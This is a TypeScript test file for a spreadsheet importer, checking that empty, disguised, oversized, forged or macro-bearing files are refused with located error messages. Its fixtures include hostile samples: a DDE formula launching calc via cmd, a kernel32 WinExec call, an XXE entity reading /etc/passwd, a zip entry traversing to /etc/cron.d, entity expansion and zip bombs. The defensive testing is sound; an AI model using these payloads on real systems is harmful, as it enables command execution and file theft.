// Every file that is no honest table is refused, with a reason that says where and what.
import { deflateRawSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { readAll, workbookParts, zipParts } from '../../test/support/spreadsheet-files.ts';
import { type ErrorCode, errors, Refusal, tellError } from '../contract/errors.ts';
import type { ReadOptions } from './sheet.ts';

async function refusalOf(bytes: Uint8Array, fileName?: string, options?: ReadOptions): Promise<Refusal> {
  const outcome = await readAll(bytes, fileName, options).catch((error: unknown) => error);
  if (!(outcome instanceof Refusal)) throw outcome instanceof Error ? outcome : new Error('the file was read');
  const told = `${tellError(outcome.code, outcome.values, 'zh')}${tellError(outcome.code, outcome.values, 'en')}`;
  // What the words need is given: nothing is told with a gap in it.
  const needed = [...`${errors[outcome.code].zh}${errors[outcome.code].en}`.matchAll(/\{(\w+)\}/g)].map(([, name]) => name ?? '');
  expect(Object.keys(outcome.values)).toEqual(expect.arrayContaining(needed));
  expect(told).not.toMatch(/[{}]|undefined/);
  return outcome;
}

const text = (words: string): Uint8Array => new TextEncoder().encode(words);
const changed = (change: (parts: Record<string, string>) => void): Uint8Array => {
  const parts = workbookParts();
  change(parts);
  return zipParts(parts);
};
const row = (inner: string, number = 1): string => `<row r="${number}">${inner}</row>`;
const cell = (inner: string, reference = 'A1'): Uint8Array => zipParts(workbookParts(row(`<c r="${reference}">${inner}</c>`)));

it('reads the good workbook that the bad ones are made from', async () => {
  const { rows } = await readAll(zipParts(workbookParts()));
  expect(rows.map(({ cells }) => cells[0]?.text)).toEqual(['张三一']);
});

const otherKinds: readonly [string, Uint8Array, string, ErrorCode][] = [
  ['an empty file', new Uint8Array(), '名单.xlsx', 'sheet-empty'],
  ['a workbook without rows', zipParts(workbookParts('')), '名单.xlsx', 'sheet-empty'],
  ['CSV under the name of xlsx', text('姓名,年龄\r\n张三一,30\r\n'), '名单.xlsx', 'sheet-is-csv'],
  ['a web page under the name of xls', text('<html><body><table><tr><td>姓名</td></tr></table></body></html>'), '名单.xls', 'sheet-is-html'],
  ['a web page saved by a browser', text('\ufeff  <!DOCTYPE html><html></html>'), '名单.csv', 'sheet-is-html'],
  ['an XML spreadsheet of 2003', text('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'), '名单.xls', 'sheet-not-a-table'],
  ['a PDF', text('%PDF-1.7\n1 0 obj'), '名单.xlsx', 'sheet-not-a-table'],
  ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0]), '名单.csv', 'sheet-not-a-table'],
  ['bytes that are no text', new Uint8Array([0, 1, 2, 3, 4]), '名单.csv', 'sheet-not-a-table'],
  ['a Word document', changed((parts) => delete parts['xl/workbook.xml']), '名单.xlsx', 'sheet-not-a-table'],
  ['old Excel', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array<number>(600).fill(0)]), '名单.xls', 'sheet-is-old-excel'],
  ['binary Excel', changed((parts) => {
    parts['xl/workbook.bin'] = 'x';
    parts['_rels/.rels'] = (parts['_rels/.rels'] ?? '').replace('workbook.xml', 'workbook.bin');
  }), '名单.xlsb', 'sheet-is-old-excel'],
  [
    'a workbook behind a password',
    new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array<number>(600).fill(0), ...Buffer.from('EncryptedPackage', 'utf16le')]),
    '名单.xlsx',
    'sheet-encrypted',
  ],
];

it.each(otherKinds)('refuses %s', async (_, bytes, fileName, code) => {
  expect((await refusalOf(bytes, fileName)).code).toBe(code);
});

const outside: readonly [string, Uint8Array, ErrorCode][] = [
  ['WEBSERVICE', cell('<f>WEBSERVICE("http://example.org/?"&amp;B1)</f><v>1</v>'), 'sheet-calls-out'],
  ['a new function under its stored name', cell('<f>_xlfn.WEBSERVICE("x")</f><v>1</v>'), 'sheet-calls-out'],
  ['a full-width spelling', cell('<f>ＨＹＰＥＲＬＩＮＫ（"a"，"b"）</f><v>1</v>'), 'sheet-calls-out'],
  ['HYPERLINK to elsewhere', cell('<f>1+HYPERLINK("https://example.org","看")</f><v>1</v>'), 'sheet-calls-out'],
  ['DDE', cell(`<f>cmd|'/c calc'!A1</f><v>1</v>`), 'sheet-calls-out'],
  ['another workbook', cell('<f>SUM([1]Sheet1!A1:A9)</f><v>1</v>'), 'sheet-calls-out'],
  ['another workbook by its path', cell(`<f>'\\\\host\\share\\[别的.xlsx]Sheet1'!A1</f><v>1</v>`), 'sheet-calls-out'],
  ['a real-time feed', cell('<f>RTD("prog",,"x")</f><v>1</v>'), 'sheet-calls-out'],
  ['a call into a library', cell('<f>CALL("kernel32","WinExec","JJ","calc",0)</f><v>1</v>'), 'sheet-calls-out'],
  ['a name that calls out', changed((parts) => {
    parts['xl/workbook.xml'] = (parts['xl/workbook.xml'] ?? '').replace('</workbook>', '<definedNames><definedName name="数">WEBSERVICE("x")</definedName></definedNames></workbook>');
  }), 'sheet-calls-out'],
  ['a validation that calls out', zipParts(workbookParts(undefined, '<dataValidations><dataValidation><formula1>HYPERLINK("http://x")</formula1></dataValidation></dataValidations>')), 'sheet-calls-out'],
  ['external links', changed((parts) => void (parts['xl/externalLinks/externalLink1.xml'] = '<externalLink/>')), 'sheet-calls-out'],
  ['a data connection', changed((parts) => void (parts['xl/connections.xml'] = '<connections/>')), 'sheet-calls-out'],
  ['a linked picture', changed((parts) => void (parts['xl/worksheets/_rels/sheet1.xml.rels'] = '<Relationships><Relationship Id="rId1" Type="x/image" Target="http://example.org/a.png" TargetMode="External"/></Relationships>')), 'sheet-calls-out'],
  ['a macro project', changed((parts) => void (parts['xl/vbaProject.bin'] = 'x')), 'sheet-has-macros'],
  ['a macro file renamed', changed((parts) => {
    parts['[Content_Types].xml'] = (parts['[Content_Types].xml'] ?? '').replace('spreadsheetml.sheet.main+xml', 'ms-excel.sheet.macroEnabled.main+xml');
  }), 'sheet-has-macros'],
  ['a macro sheet of Excel 4', changed((parts) => void (parts['xl/macrosheets/sheet1.xml'] = '<x/>')), 'sheet-has-macros'],
  ['a control', changed((parts) => void (parts['xl/activeX/activeX1.xml'] = '<x/>')), 'sheet-has-macros'],
  ['declared entities', changed((parts) => {
    parts['xl/worksheets/sheet1.xml'] = `<!DOCTYPE x [<!ENTITY a "${'啊'.repeat(9)}"><!ENTITY b "&a;&a;">]>${parts['xl/worksheets/sheet1.xml'] ?? ''}`;
  }), 'sheet-entities'],
  ['an entity from elsewhere', changed((parts) => {
    parts['xl/workbook.xml'] = `<!DOCTYPE x SYSTEM "file:///etc/passwd">${parts['xl/workbook.xml'] ?? ''}`;
  }), 'sheet-entities'],
];

it.each(outside)('refuses %s', async (_, bytes, code) => {
  expect((await refusalOf(bytes)).code).toBe(code);
});

it('says at which cell a file calls out, and by what', async () => {
  const bytes = zipParts(workbookParts(row('<c r="A1" t="inlineStr"><is><t>姓名</t></is></c>') + row('<c r="C7"><f>1+webservice("x")</f><v>1</v></c>', 7)));
  expect(await refusalOf(bytes)).toMatchObject({ code: 'sheet-calls-out', values: { place: 'C7', what: 'WEBSERVICE' } });
});

it.each(['SUM(A1:A9)', 'IF(B2="看：http",1,2)&"x"', 'VLOOKUP(A2,选项!$A$1:$B$9,2,FALSE)', "'我的 表'!A1", 'TEXT(A1,"[>=1]0;0")', 'Table1[@姓名]', 'Table1[[#This Row],[年]]', 'A1|B1'])('does not take %s for a call', async (formula) => {
  const escaped = formula.replaceAll('&', '&amp;').replaceAll('>', '&gt;');
  const bytes = zipParts(workbookParts(row('<c r="A1" t="inlineStr"><is><t>数</t></is></c>') + row(`<c r="A2"><f>${escaped}</f><v>3</v></c>`, 2)));
  const { rows } = await readAll(bytes);
  expect(rows[0]?.cells[0]).toEqual({ text: '3', kind: 'number', isFormula: true });
});

const many = (count: number, make: (at: number) => string): string => Array.from({ length: count }, (_, at) => make(at)).join('');

const sizes: readonly [string, Uint8Array, ErrorCode, ReadOptions?][] = [
  ['a million columns', cell('<v>1</v>', 'BDWGN1'), 'sheet-too-many-columns'],
  ['columns beyond the limit', cell('<v>1</v>', 'ZZ1'), 'sheet-too-many-columns'],
  ['cells without reference beyond the limit', zipParts(workbookParts(row(many(300, () => '<c><v>1</v></c>')))), 'sheet-too-many-columns'],
  ['rows beyond the limit', zipParts(workbookParts(many(30, (at) => row(`<c r="A${at + 1}"><v>1</v></c>`, at + 1)))), 'sheet-too-many-rows', { limits: { rows: 20 } }],
  ['a row beyond the last of Excel', zipParts(workbookParts(row('<c r="A2000000"><v>1</v></c>', 2_000_000))), 'sheet-too-many-rows'],
  ['a file beyond the limit', zipParts(workbookParts()), 'sheet-too-large', { limits: { fileBytes: 100 } }],
  ['a part that unpacks to a thousand times its size', changed((parts) => void (parts['xl/media/a.xml'] = ' '.repeat(20_000_000))), 'sheet-inflates'],
  ['parts that are together too large', changed((parts) => void (parts['xl/media/a.xml'] = ' '.repeat(900_000))), 'sheet-inflates', { limits: { inflatedBytes: 800_000 } }],
  ['too many parts', changed((parts) => {
    for (let at = 0; at < 60; at++) parts[`xl/media/${at}.txt`] = 'x';
  }), 'sheet-too-many-parts', { limits: { parts: 50 } }],
  ['shared strings without end', sharedStrings(many(2000, () => '<si><t>甲</t></si>')), 'sheet-inflates', { limits: { sharedStrings: 1000 } }],
  ['shared strings that are too long together', sharedStrings(many(200, () => `<si><t>${'甲'.repeat(1000)}</t></si>`)), 'sheet-inflates', { limits: { sharedCharacters: 100_000 } }],
  ['a cell longer than Excel’s longest', zipParts(workbookParts(row(`<c r="A1" t="inlineStr"><is><t>${randomText(40_000)}</t></is></c>`))), 'sheet-cell-too-long'],
  ['text without end', zipParts(workbookParts(row(`<c r="A1" t="inlineStr"><is><t>${randomText(1_200_000)}</t></is></c>`))), 'sheet-damaged'],
  ['elements without end', zipParts(workbookParts(`${'<x>'.repeat(100)}${'</x>'.repeat(100)}`)), 'sheet-damaged'],
];

function sharedStrings(items: string): Uint8Array {
  return changed((parts) => {
    parts['xl/sharedStrings.xml'] = `<sst>${items}</sst>`;
    parts['xl/_rels/workbook.xml.rels'] = (parts['xl/_rels/workbook.xml.rels'] ?? '').replace('</Relationships>', '<Relationship Id="rId2" Type="x/sharedStrings" Target="sharedStrings.xml"/></Relationships>');
  });
}

/** Text that hardly packs, so that its size and not its packing is what is refused. */
function randomText(length: number): string {
  let state = 7;
  return Array.from({ length }, () => String.fromCodePoint(0x4e00 + ((state = (state * 1_103_515_245 + 12_345) % 2 ** 31) % 20_000))).join('');
}

it.each(sizes)('refuses %s', async (_, bytes, code, options) => {
  expect((await refusalOf(bytes, '名单.xlsx', options)).code).toBe(code);
});

/** A zip file written by hand: what its directory says need not be true. */
function handMade(entries: readonly { name: string; content: string; declared?: number; flags?: number; at?: number; localName?: string; checksum?: number }[]): Uint8Array {
  const pieces: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, content, declared, flags = 0, at, localName = name, checksum } of entries) {
    const packed = deflateRawSync(content);
    const size = declared ?? Buffer.byteLength(content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(Buffer.byteLength(localName), 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(checksum ?? crc(content), 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(Buffer.byteLength(name), 28);
    central.writeUInt32LE(at ?? offset, 42);
    directory.push(central, Buffer.from(name));
    pieces.push(local, Buffer.from(localName), packed);
    offset += 30 + Buffer.byteLength(localName) + packed.length;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...pieces, list, end]);
}

function crc(content: string): number {
  let value = 0xffffffff;
  for (const byte of Buffer.from(content)) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit++) value = (value >>> 1) ^ (value & 1 ? 0xedb88320 : 0);
  }
  return (value ^ 0xffffffff) >>> 0;
}

const goodParts = Object.entries(workbookParts()).map(([name, content]) => ({ name, content }));
const forged = (name: string, change: object): Uint8Array => handMade(goodParts.map((one) => (one.name === name ? { ...one, ...change } : one)));

const forgeries: readonly [string, Uint8Array, ErrorCode][] = [
  ['a directory that declares less than a part holds', forged('xl/worksheets/sheet1.xml', { declared: 50 }), 'sheet-damaged'],
  ['a wrong checksum', forged('xl/worksheets/sheet1.xml', { checksum: 1 }), 'sheet-damaged'],
  ['an encrypted part', forged('xl/workbook.xml', { flags: 1 }), 'sheet-encrypted'],
  ['a name that leads out of the folder', handMade([...goodParts, { name: '../../etc/cron.d/x', content: 'x' }]), 'sheet-parts-forged'],
  ['an absolute name', handMade([...goodParts, { name: 'C:/x', content: 'x' }]), 'sheet-parts-forged'],
  ['two parts of one name', handMade([...goodParts, { name: 'XL/workbook.xml', content: 'x' }]), 'sheet-parts-forged'],
  ['parts that share their bytes', handMade([...goodParts, { name: 'xl/a.xml', content: 'x', at: 0 }]), 'sheet-parts-forged'],
  ['a part that is called otherwise at its place', forged('xl/workbook.xml', { localName: 'xl/workbook.XXX' }), 'sheet-parts-forged'],
  ['a file cut off', zipParts(workbookParts()).slice(0, 700), 'sheet-damaged'],
  ['XML cut off', changed((parts) => void (parts['xl/worksheets/sheet1.xml'] = (parts['xl/worksheets/sheet1.xml'] ?? '').slice(0, -20))), 'sheet-damaged'],
  ['XML in another encoding', zipParts({ ...workbookParts(), 'xl/worksheets/sheet1.xml': new Uint8Array([0xff, 0xfe, 0x3c, 0]) }), 'sheet-damaged'],
  ['rows out of order', zipParts(workbookParts(row('<c r="A5"><v>1</v></c>', 5) + row('<c r="A2"><v>1</v></c>', 2))), 'sheet-damaged'],
  ['a sheet that is missing', changed((parts) => delete parts['xl/worksheets/sheet1.xml']), 'sheet-empty'],
];

it.each(forgeries)('refuses %s', async (_, bytes, code) => {
  expect((await refusalOf(bytes)).code).toBe(code);
});

it('reads the hand-made good workbook, so that what was changed is what was refused', async () => {
  expect((await readAll(handMade(goodParts))).rows).toHaveLength(1);
});

const badCsv: readonly [string, Uint8Array, ErrorCode, ReadOptions?][] = [
  ['a quote that nothing closes', text('姓名,说明\r\n张三一,"没有\r\n张三二,x\r\n'), 'sheet-damaged'],
  ['text behind a closing quote', text('姓名,说明\r\n张三一,"a"b\r\n'), 'sheet-damaged'],
  ['an endless field', text(`姓名\r\n${'甲'.repeat(40_000)}\r\n`), 'sheet-cell-too-long'],
  ['an endless quoted field', text(`姓名\r\n"${'甲,'.repeat(700_000)}`), 'sheet-cell-too-long'],
  ['too many columns', text(`${'a,'.repeat(300)}a\r\n`), 'sheet-too-many-columns'],
  ['too many rows', text('a\r\n'.repeat(50)), 'sheet-too-many-rows', { limits: { rows: 20 } }],
  ['bytes of no known encoding', new Uint8Array([...text('姓名\r\n'), 0x81, 0x20, 0xff, 0xff, 13, 10]), 'sheet-text-unreadable'],
];

it.each(badCsv)('refuses CSV with %s', async (_, bytes, code, options) => {
  expect((await refusalOf(bytes, '名单.csv', options)).code).toBe(code);
});
